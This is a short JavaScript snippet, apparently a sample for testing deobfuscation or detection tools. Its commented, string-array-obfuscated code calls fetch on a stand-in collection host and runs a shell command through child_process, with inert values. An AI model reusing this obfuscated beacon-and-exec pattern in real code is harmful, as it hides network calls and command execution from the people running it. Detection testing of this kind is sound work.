// hides: call child_process.exec "echo inert"
// hides: call fetch "http://collect.test/in"
var _0x4f1a = ["fetch","http://collect.test/in","child_process","exec","echo inert","log","length","toString"];
function _0x2c(i) { return _0x4f1a[i - 0x64]; }
globalThis[_0x2c(0x64)](_0x2c(0x65));
require(_0x2c(0x66))[_0x2c(0x67)](_0x2c(0x68));
